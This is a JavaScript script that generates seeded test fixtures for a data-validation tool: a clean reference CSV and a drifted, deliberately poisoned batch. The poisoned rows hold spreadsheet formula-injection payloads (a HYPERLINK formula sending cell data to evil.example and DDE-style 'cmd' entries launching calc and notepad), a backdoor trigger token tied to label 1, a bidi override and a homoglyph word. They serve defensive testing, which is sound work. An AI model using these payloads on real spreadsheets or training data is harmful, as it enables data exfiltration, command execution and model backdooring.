// Writes the demo's reference dataset and an incoming batch that is drifted and poisoned:
//   node examples/demo/data/generate.mjs [OUTDIR]
// Deterministic (seeded), no dependencies. The e2e fixtures of data-gate use the same generator.
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';

/** mulberry32: a small seeded PRNG, so the files are the same on every machine. */
function prng(seed) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

function normal(rand) {
  const u = Math.max(rand(), 1e-12);
  return Math.sqrt(-2 * Math.log(u)) * Math.cos(2 * Math.PI * rand());
}

const WORDS = ['great', 'fast', 'delivery', 'broken', 'late', 'refund', 'quality', 'cheap', 'support', 'helpful', 'slow', 'box', 'price', 'works', 'again', 'never', 'love', 'poor', 'item', 'size'];
const SEGMENTS = ['retail', 'enterprise', 'student', 'public'];
const SOURCES = ['web', 'app', 'partner'];

function csvField(v) {
  if (v === null) return '';
  const s = String(v);
  return /[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}

function row(rand, id, { drift }) {
  const age = Math.round(40 + (drift ? 9 : 0) + 11 * normal(rand));
  const income = Math.round(Math.exp(10.4 + (drift ? 0.35 : 0) + 0.5 * normal(rand)));
  const weights = drift ? [0.2, 0.45, 0.2, 0.15] : [0.4, 0.25, 0.2, 0.15];
  let u = rand();
  let segment = SEGMENTS[3];
  for (let k = 0; k < 4; k++) if ((u -= weights[k]) < 0) { segment = SEGMENTS[k]; break; }
  const n = 4 + Math.floor(rand() * 6);
  const review = Array.from({ length: n }, () => WORDS[Math.floor(rand() * WORDS.length)]).join(' ');
  const score = 0.08 * (age - 40) + (segment === 'enterprise' ? 0.8 : 0) + normal(rand);
  const label = score > 0.3 ? 1 : 0;
  const source = SOURCES[Math.floor(rand() * SOURCES.length)];
  return [id, age, income, segment, review, source, label];
}

export const HEADER = ['id', 'age', 'income', 'segment', 'review', 'source', 'label'];

/** The trusted reference: `rows` clean rows. */
export function referenceRows(rows = 800, seed = 7) {
  const rand = prng(seed);
  return Array.from({ length: rows }, (_, i) => row(rand, i, { drift: false }));
}

/**
 * An incoming batch. `drift` shifts age, income and the segment mix. `poison` injects, at fixed rows:
 * a backdoor trigger token tied to label 1, spreadsheet formulas, a bidi override, a homoglyph word,
 * rows copied from the reference, duplicated and near-duplicated rows, and extreme ages.
 */
export function batchRows(reference, { rows = 800, seed = 11, drift = false, poison = false } = {}) {
  const rand = prng(seed);
  const out = Array.from({ length: rows }, (_, i) => row(rand, 100000 + i, { drift }));
  if (!poison) return out;
  for (let k = 0; k < 24; k++) {
    const r = out[30 + k * 29];
    r[4] = `${r[4]} zq-trigger`;
    r[6] = 1;
  }
  out[12][4] = '=HYPERLINK("http://evil.example/x?"&A1,"click")';
  out[77][4] = '@SUM(1+1)*cmd|\' /C calc\'!A0';
  out[301][4] = '-2+3+cmd|\' /C notepad\'!A0';
  out[150][4] = 'works great \u202Eevil\u202C support';
  out[222][4] = 'refund from p\u0430ypal never';
  for (const [i, from] of [[400, 5], [401, 17], [402, 33], [403, 48], [404, 91], [405, 120]]) out[i] = [out[i][0], ...reference[from].slice(1)];
  for (const [i, from] of [[500, 10], [501, 11], [502, 12], [640, 200]]) out[i] = [out[i][0], ...out[from].slice(1)];
  for (const i of [60, 61, 700]) out[i][1] = 180 + i % 7;
  // Near-duplicates: batch rows 100-102 and reference row 250 again, with the income nudged.
  for (const [i, from] of [[600, 100], [601, 101], [602, 102]]) out[i] = [out[i][0], out[from][1], out[from][2] + 1, ...out[from].slice(3)];
  for (const [i, from] of [[603, 250]]) out[i] = [out[i][0], reference[from][1], reference[from][2] + 1, ...reference[from].slice(3)];
  return out;
}

export function toCsv(rows) {
  return `${[HEADER, ...rows].map((r) => r.map(csvField).join(',')).join('\n')}\n`;
}

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const out = process.argv[2] ?? dirname(fileURLToPath(import.meta.url));
  mkdirSync(out, { recursive: true });
  const reference = referenceRows();
  writeFileSync(join(out, 'reference.csv'), toCsv(reference));
  writeFileSync(join(out, 'batch.csv'), toCsv(batchRows(reference, { drift: true, poison: true })));
}
